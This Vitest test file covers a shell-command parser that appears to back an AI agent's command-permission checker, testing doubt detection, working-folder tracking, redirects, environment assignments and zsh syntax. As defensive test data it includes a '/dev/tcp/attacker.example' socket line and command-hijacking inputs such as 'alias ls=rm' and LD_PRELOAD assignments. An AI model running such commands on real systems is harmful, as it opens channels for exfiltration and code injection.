import { describe, expect, it } from "vitest";
import { place, vouched } from "../../test/shell-fuzz/vouched.js";
import { longestLine, readShell } from "./read-shell.js";
import type { ShellCommand, ShellReading } from "./shell-reading.js";

const read = (line: string): ShellReading => readShell(line, place);
const first = (line: string): ShellCommand => {
  const command = read(line).commands[0];
  if (command === undefined) throw new Error("no command");
  return command;
};

describe("lines that are not read", () => {
  it.each([
    ["ls\0", "control"],
    ["ls\r\ttouch p", "control"],
    ["echo \u001b[2K; touch p", "control"],
    ["ls\f", "control"],
    ["ls \ud800", "half"],
    [`ls ${"a".repeat(longestLine)}`, "longer"],
    ["echo 'a", "parsed"],
    ["echo $(ls", "parsed"],
    ["ls )", "parsed"],
    ['eval "$x"', "cannot be known"],
    ['bash -c "$x"', "cannot be known"],
    ["echo ls | sh", "cannot be known"],
    ["echo curl | xargs env", "cannot be known"],
    ["find . | xargs -I{} sh -c 'echo {}'", "cannot be known"],
    ["declare -a 'x=($(a))'", "evaluate"],
    ["test -v 'a[$(b)]'", "evaluate"],
    ["ls \u202e", "cannot be seen"],
    ["PS4='$(a)'; set -x; ls", "sets PS4"],
    ["bash <(echo ls)", "cannot be known"],
    ["ls() { rm x; }; ls", "function"],
    ["alias ls=rm; ls", "how the line is read"],
    ["echo ${x@P}", "prompt"],
    ["echo ${!x}", "indirect"],
    ["echo ${x:=y}", "assigns"],
    ["echo $((x))", "arithmetic"],
    ["(( x ))", "arithmetic"],
    ["[[ x -eq y ]]", "evaluates"],
    ["[[ -v x ]]", "evaluates"],
    ["echo ${a:x}", "offset"],
    ["a[x]=1", "index"],
    ["for PATH in .; do ls; done", "sets PATH"],
    ["{PATH}>f ls", "sets PATH"],
    ["HOME=/x; ls ~", "sets HOME"],
    ["export IFS=x", "sets IFS"],
    ["((ls); pwd)", "subshells"],
    ["z$\\\nx", "line break"],
    ["for a in b; do cd x; done", "working folder"],
  ])("doubts %j", (line, why) => {
    expect(read(line).doubts.join("; ")).toContain(why);
  });

  it("is never brought to a throw by nesting", () => {
    for (const piece of ["$(", '"$(', "'\"$(", "(", "{ ", "${a:-", "`", "((", "[[ ", "if ", "<(", "eval eval "]) {
      const reading = read(piece.repeat(Math.floor(longestLine / piece.length)));
      expect(reading.doubts.length + reading.commands.length).toBeGreaterThan(0);
      expect(vouched(piece.repeat(2000))).toBe("asks");
    }
  });
});

describe("following the working folder", () => {
  const cwdOfLast = (line: string): string | undefined => read(line).commands.at(-1)?.cwd;
  it.each([
    ["cd sub && ls", "/home/u/project/sub"],
    ["cd sub/../x && ls", "/home/u/project/x"],
    ["cd /etc && ls", "/etc"],
    ["cd && ls", "/home/u"],
    ["cd ~/x && ls", "/home/u/x"],
    ["(cd sub); ls", "/home/u/project"],
    ["cd sub | ls", "/home/u/project"],
    ["cd sub & ls", "/home/u/project"],
    ["cd sub; ls", undefined],
    ["cd sub || ls", "/home/u/project"],
    ["! cd sub || ls", "/home/u/project/sub"],
    ['cd "$x" && ls', undefined],
    ["cd - && ls", undefined],
    ["popd && ls", undefined],
    ["pushd sub && ls", "/home/u/project/sub"],
    ["if cd sub; then ls; fi", "/home/u/project/sub"],
    ["if cd sub; then :; else ls; fi", "/home/u/project"],
    ["eval 'cd sub' && ls", "/home/u/project/sub"],
    ["bash -c 'cd sub'; ls", "/home/u/project"],
    ["env -C sub ls", "/home/u/project/sub"],
    ["command cd sub && ls", "/home/u/project/sub"],
    ["$(cd sub); ls", "/home/u/project"],
    ["cd -P a/.. && ls", undefined],
  ])("after %j it is %j", (line, cwd) => {
    expect(cwdOfLast(line)).toBe(cwd);
  });

  it("names a path from every folder it may count from", () => {
    expect(read("cd sub; cat ../x").commands[1]?.reads.map((use) => use.cwd)).toEqual(["/home/u/project/sub", "/home/u/project"]);
    expect(vouched("cd nowhere/deep; cat ../../x")).toBe("asks");
  });

  it("gives git's folder", () => {
    expect(first("git -C a -C b status").git).toMatchObject({ path: "a/b", cwd: "/home/u/project" });
    expect(read("cd sub && git status").commands[1]?.git).toMatchObject({ path: ".", cwd: "/home/u/project/sub" });
    expect(first('git -C "$x" status').git).toMatchObject({ path: undefined });
  });
});

describe("redirects", () => {
  it.each([
    ["ls > f", ["f"]],
    ["ls >> f", ["f"]],
    ["ls >| f", ["f"]],
    ["ls &> f", ["f"]],
    ["ls &>> f", ["f"]],
    ["ls >& f", ["f"]],
    ["ls <> f", ["f"]],
    ["ls 2>f >g", ["f", "g"]],
    ["ls {x}>f", ["f"]],
    ['ls > f"g"', ["fg"]],
    ["ls >~/f", ["/home/u/f"]],
    ["ls > ~+/f", [undefined]],
    ["ls > $x", [undefined]],
    ["ls > *.x", [undefined]],
    ["ls > //etc/x", ["//etc/x"]],
    ["ls >/dev/null 2>&1", []],
    ["ls 2>&- >&2", []],
    ["ls 2>/dev/stderr", []],
  ])("%j writes %j", (line, paths) => {
    expect(read(line).commands.flatMap((command) => command.writes.map((use) => use.path))).toEqual(paths);
  });

  it("belong to compound commands too", () => {
    expect(read("if true; then echo x; fi >> ~/.bashrc").commands[0]).toMatchObject({
      name: "",
      words: [],
      effect: "writes",
      writes: [{ path: "/home/u/.bashrc" }],
    });
    expect(read("[[ -n x ]] > f").commands[0]?.writes[0]?.path).toBe("f");
  });

  it("name hosts", () => {
    expect(first("exec 3<>/dev/tcp/attacker.example/80")).toMatchObject({ effect: "runs", hosts: ["attacker.example"] });
    expect(first("curl -s https://user@Docs.example.com:8080/x -o out")).toMatchObject({
      hosts: ["docs.example.com"],
      writes: [{ path: "out" }],
    });
  });
});

describe("assignments", () => {
  it("are safe from a fixed list with plain values", () => {
    expect(first("LANG=C NO_COLOR=1 ls").assignments.every(({ safe }) => safe)).toBe(true);
    for (const line of [
      "PATH=. ls",
      "LD_PRELOAD=x ls",
      "NODE_OPTIONS=x ls",
      "GIT_PAGER=x git log",
      "LANG=$x ls",
      "TZ=/etc/x ls",
      "RIPGREP_CONFIG_PATH=r rg x",
      "LESSOPEN=x cat a",
      "FOO=1 ls",
    ])
      expect(vouched(line), line).toBe("asks");
    expect(vouched("NODE_ENV=test ls")).toBe("reads");
  });
});

describe("zsh", () => {
  it.each([
    "echo x >! f",
    "echo x >&| f",
    "echo x >>! f",
    "echo x >>&| f",
    "cat =(ls)",
    "=curl x",
    "ls *(e:'touch p':)",
    "echo ${(e)x}",
    "ls <1-3>",
    "repeat 2 ls",
    "setopt x; ls",
    "echo $a[1]",
  ])("doubts %j", (line) => {
    expect(vouched(line, "zsh")).toBe("asks");
  });
  it("reads what both shells read alike", () => {
    expect(vouched("ls -la | head -5 && git log --oneline", "zsh")).toBe("reads");
    expect(vouched('echo "$(git rev-parse HEAD)"', "zsh")).toBe("reads");
  });
});
